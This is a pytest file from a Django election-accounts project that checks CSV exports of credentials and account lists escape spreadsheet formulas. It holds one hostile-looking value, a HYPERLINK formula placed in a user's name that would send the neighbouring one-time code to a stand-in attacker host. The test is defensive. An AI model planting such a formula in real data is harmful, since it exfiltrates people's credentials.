"""A person's name that a spreadsheet would run: an administrator types it, the operator opens the table."""

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User

from hattama.web.kernel.accounts.policy import Role
from tests.web.people import person
from tests.web.running_commands import run

__all__ = ["run"]
pytestmark = [pytest.mark.django_db, pytest.mark.both_engines]

LINK = '=HYPERLINK("https://thief.example/?"&E2)'
"""It would carry the one-time code of the cell beside it away at one press."""


@pytest.fixture
def named_so(tiny: object) -> User:
    user = person(Role.CHAIR, "P001", username="chair")
    user.first_name = LINK
    user.save()
    return user


def test_codes_on_paper_as_a_table_run_no_formula(named_so: User, run: Any, tmp_path: Path) -> None:
    file = tmp_path / "codes.csv"
    assert run("credentials", "tiny", file).code == 0
    (line,) = csv.DictReader(io.StringIO(file.read_text("utf-8")))
    assert line["name"] == f"'{LINK}" and len(line["code"]) == 19


def test_lists_of_people_run_no_formula(named_so: User, run: Any) -> None:
    listed = run("accounts", "list", "--election", "tiny", "--format", "csv").out
    assert f"'{LINK}" in {line["name"] for line in csv.DictReader(io.StringIO(listed))}
    assert LINK in run("accounts", "list", "--election", "tiny", "--format", "json").out.replace('\\"', '"')
